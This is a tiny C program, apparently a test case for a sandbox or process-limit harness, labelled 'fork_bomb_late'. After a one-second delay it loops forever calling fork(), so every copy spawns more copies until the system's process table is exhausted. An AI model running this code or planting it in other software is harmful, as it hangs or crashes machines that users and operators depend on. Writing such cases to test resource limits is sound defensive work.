/* fork_bomb_late: every copy makes copies, a second after the start. */
#include "echo.h"

int main(void)
{
    int fd = get_ready();

    sleep(1);
    for (;;)
        if (fd >= 0)
            fork();
}
